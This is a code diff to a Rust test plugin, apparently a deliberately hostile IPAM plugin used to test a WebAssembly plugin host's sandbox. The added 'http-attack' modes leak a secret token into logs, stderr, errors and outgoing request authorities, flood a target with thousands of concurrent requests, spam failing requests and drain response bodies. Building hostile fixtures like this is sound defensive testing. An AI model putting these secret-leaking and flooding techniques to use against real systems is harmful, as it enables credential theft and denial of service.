@@ -6,6 +6,13 @@
 //! network's subnet…), and `http-pool=<host:port>` fetches the pool over wasi:http from
 //! `http://<host:port>/pool`, as an external IPAM asks NetBox. Static requests (the
 //! gateway) behave, so a network can be made and the misbehaviour meets a connect.
+//!
+//! `http-attack=<what>` (with `http-target=<host:port>`, `n=<count>`) makes request-pool
+//! attack the host through wasi:http first: `leak` puts its `token` config value everywhere
+//! a string can leave (an authority, userinfo, log lines at every level, stderr, its error);
+//! `flood` starts `n` requests at once and waits on them; `log-flood` makes `n` requests one
+//! after another that fail (to a port nobody listens on, or with no path); `drain` reads the
+//! answer's body to its end (then the pool comes from `pool=`) or to the first error.
 
 use weft_plugin_sdk as sdk;
 
@@ -20,7 +27,7 @@ use exports::weft::plugin::ipam::{
 };
 use exports::weft::plugin::plugin::{Guest as Plugin, PluginMetadata, RequestedGrants};
 use sdk::types::{Error, IpAddress, IpPrefix};
-use weft::plugin::kv;
+use weft::plugin::{config, kv, log};
 
 struct Hostile;
 
@@ -93,6 +100,9 @@ impl Ipam for Hostile {
     }
 
     fn request_pool(req: PoolRequest) -> Result<PoolResponse, Error> {
+        if let Some(a) = sdk::option(&req.options, "http-attack") {
+            attack(a, &req.options)?;
+        }
         let m = sdk::option(&req.options, "hostile")
             .unwrap_or("")
             .to_string();
@@ -209,6 +219,136 @@ impl Ipam for Hostile {
 
     fn release_address(_pool_id: String, _address: IpAddress) -> Result<(), Error> {
         Ok(())
+    }
+}
+
+/// A GET of `path` on `authority` (no path at all when `path` is None), sent but not awaited.
+fn start(
+    authority: &str,
+    path: Option<&str>,
+) -> Result<wasip2::http::types::FutureIncomingResponse, String> {
+    use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
+    let req = OutgoingRequest::new(Fields::new());
+    req.set_scheme(Some(&Scheme::Http))
+        .map_err(|_| "scheme".to_string())?;
+    req.set_authority(Some(authority))
+        .map_err(|_| format!("authority {authority}"))?;
+    if let Some(p) = path {
+        req.set_path_with_query(Some(p))
+            .map_err(|_| format!("path {p}"))?;
+    }
+    wasip2::http::outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))
+}
+
+/// Wait for a response; its error, if any, as text.
+fn wait(
+    f: &wasip2::http::types::FutureIncomingResponse,
+) -> Result<wasip2::http::types::IncomingResponse, String> {
+    f.subscribe().block();
+    match f.get() {
+        Some(Ok(Ok(r))) => Ok(r),
+        Some(Ok(Err(e))) => Err(format!("{e:?}")),
+        _ => Err("no response".into()),
+    }
+}
+
+fn attack(what: &str, opts: &sdk::types::Options) -> Result<(), Error> {
+    let target = sdk::option(opts, "http-target").unwrap_or("127.0.0.1:1");
+    let n: u32 = sdk::option(opts, "n")
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(10_000);
+    match what {
+        "leak" => {
+            let token = config::get("token").unwrap_or_default();
+            for l in [
+                log::Level::Trace,
+                log::Level::Debug,
+                log::Level::Info,
+                log::Level::Warn,
+                log::Level::Error,
+            ] {
+                log::log(l, &format!("my token is {token}"));
+            }
+            eprintln!("stderr: my token is {token}");
+            let mut errs = vec![];
+            for a in [
+                format!("{token}:1"),
+                token.clone(),
+                format!("user:{token}@{target}"),
+                format!("{target}.{token}"),
+            ] {
+                if let Err(e) = start(&a, Some("/")).and_then(|f| wait(&f)) {
+                    errs.push(e);
+                }
+            }
+            // The token where it belongs: in a header to the granted host.
+            let _ = sdk::http::request(
+                false,
+                "GET",
+                target,
+                "/",
+                &[("authorization", &format!("Token {token}"))],
+                None,
+            );
+            Err(sdk::internal(format!(
+                "leak: token {token} ({})",
+                errs.join("; ")
+            )))
+        }
+        "flood" => {
+            let mut started = vec![];
+            let mut refused = 0;
+            for _ in 0..n {
+                match start(target, Some("/")) {
+                    Ok(f) => started.push(f),
+                    Err(_) => refused += 1,
+                }
+            }
+            let mut failed = 0;
+            for f in &started {
+                if wait(f).is_err() {
+                    failed += 1;
+                }
+            }
+            Err(sdk::internal(format!(
+                "flood: {} started, {failed} failed, {refused} refused at once",
+                started.len()
+            )))
+        }
+        "log-flood" => {
+            let mut failed = 0;
+            for i in 0..n {
+                let path = if i % 2 == 0 { Some("/") } else { None };
+                if start(target, path).and_then(|f| wait(&f)).is_err() {
+                    failed += 1;
+                }
+            }
+            Err(sdk::internal(format!("log-flood: {failed} of {n} failed")))
+        }
+        "drain" => {
+            let f = start(target, Some("/")).map_err(sdk::internal)?;
+            let r = wait(&f).map_err(|e| sdk::internal(format!("drain: {e}")))?;
+            let body = r
+                .consume()
+                .map_err(|_| sdk::internal("drain: no body"))?;
+            let stream = body
+                .stream()
+                .map_err(|_| sdk::internal("drain: no body stream"))?;
+            let mut got: u64 = 0;
+            loop {
+                match stream.blocking_read(64 << 10) {
+                    Ok(chunk) => got += chunk.len() as u64,
+                    Err(wasip2::io::streams::StreamError::Closed) => return Ok(()),
+                    Err(wasip2::io::streams::StreamError::LastOperationFailed(e)) => {
+                        return Err(sdk::internal(format!(
+                            "drain: read {got} bytes, then: {}",
+                            e.to_debug_string()
+                        )))
+                    }
+                }
+            }
+        }
+        other => Err(sdk::invalid(format!("http-attack={other}?"))),
     }
 }
 
